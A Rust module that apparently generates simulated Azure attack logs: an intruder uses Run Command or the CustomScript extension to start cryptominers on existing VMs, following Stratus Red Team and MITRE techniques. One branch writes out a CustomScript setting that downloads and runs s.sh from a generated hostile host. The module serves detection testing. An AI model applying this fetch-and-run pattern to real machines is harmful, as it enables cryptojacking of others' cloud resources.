//! Commands on machines that are already there.

use chrono::TimeDelta;
use serde_json::json;

use super::targets::some_machines;
use super::worker::{Worker, entry};
use crate::estate::{Hours, Machine, address};
use crate::scenario::Stage;
use crate::scenario::stage::Pool;
use crate::script::extension;

/// By which way a command gets onto a machine.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Way {
    /// The agent runs it at once. The log does not keep what was run.
    Once,
    /// The same, as a resource of its own.
    Managed,
    /// The extension for scripts. The log keeps where the script comes from, unless that is secret.
    Extension,
}

/// Two to fourteen existing machines are given a command, and mine from then on. Stratus Red Team
/// `azure.execution.vm-run-command` and `azure.execution.vm-custom-script-extension`; UNC3944 used both
/// (Mandiant, May 2023); Azure Threat Research Matrix AZT301; MITRE T1651, T1496.001.
pub(crate) fn run_command_miner(stage: &mut Stage<'_>) {
    let caller = entry(stage);
    let mut worker = Worker::new(stage, caller);
    let machines = some_machines(stage, 2, 14);
    let pool = stage.pool();
    let way = way(stage);
    let lasts = TimeDelta::hours(stage.dice.between(30, 400));
    let tidies = stage.dice.chance(0.3);
    let first_fails = stage.dice.chance(0.25);
    for (number, machine) in machines.iter().enumerate() {
        worker.wait(stage, 2.0, 40.0);
        if number == 0 && first_fails {
            // A machine that was asleep, or busy.
            run(stage, &mut worker, machine, way, true);
        }
        run(stage, &mut worker, machine, way, false);
        mine_from_now(stage, &worker, machine, &pool, lasts);
    }
    if tidies && way == Way::Extension {
        worker.wait(stage, 300.0, 7_200.0);
        for machine in &machines {
            let resource = format!("{}/extensions/{EXTENSION}", machine.id);
            worker.starts(stage, "Microsoft.Compute/virtualMachines/extensions/delete", &resource);
        }
    }
}

const EXTENSION: &str = "CustomScript";

pub(super) fn way(stage: &mut Stage<'_>) -> Way {
    stage.dice.pick(&[Way::Once, Way::Once, Way::Managed, Way::Extension, Way::Extension])
}

/// Runs something on a machine.
pub(super) fn run(stage: &mut Stage<'_>, worker: &mut Worker, machine: &Machine, way: Way, fails: bool) {
    let id = &machine.id;
    stage.uses(id);
    let action = match way {
        Way::Once => worker.act(stage, "Microsoft.Compute/virtualMachines/runCommand/action", id.clone()),
        Way::Managed => {
            let name = format!("{id}/runCommands/rc{}", stage.dice.between(1, 99));
            let body = json!({
                "location": machine.region.id,
                "properties": {"asyncExecution": true, "timeoutInSeconds": 3600, "treatFailureAsDeploymentFailure": false},
            });
            worker.act(stage, "Microsoft.Compute/virtualMachines/runCommands/write", name).asking(&body)
        }
        Way::Extension => {
            let host = address::hostile(&mut stage.dice);
            let is_secret = stage.dice.chance(0.4);
            let settings = if is_secret {
                json!({})
            } else {
                json!({"fileUris": [format!("http://{host}/s.sh")], "commandToExecute": "sh s.sh"})
            };
            let (publisher, version) = ("Microsoft.Azure.Extensions", "2.1");
            let body = extension(machine.region, publisher, "CustomScript", version, settings);
            let resource = format!("{id}/extensions/{EXTENSION}");
            worker
                .act(stage, "Microsoft.Compute/virtualMachines/extensions/write", resource)
                .echoed(&body, "Microsoft.Compute/virtualMachines/extensions")
        }
    };
    let action = action.accepted(way != Way::Once, &mut stage.dice);
    let action = if fails { action.failed(crate::script::Failure::conflict()) } else { action };
    stage.script.actions.push(action);
}

/// A machine that never sleeps mines from a few minutes after the last act on. What runs in office
/// hours only is left out: its flows would not fit its hours.
pub(super) fn mine_from_now(
    stage: &mut Stage<'_>,
    worker: &Worker,
    machine: &Machine,
    pool: &Pool,
    lasts: TimeDelta,
) {
    if machine.hours == Hours::Always {
        let from = worker.at + stage.dice.seconds(90.0, 900.0);
        stage.mine(&machine.nic, pool, from, from + lasts);
    }
}
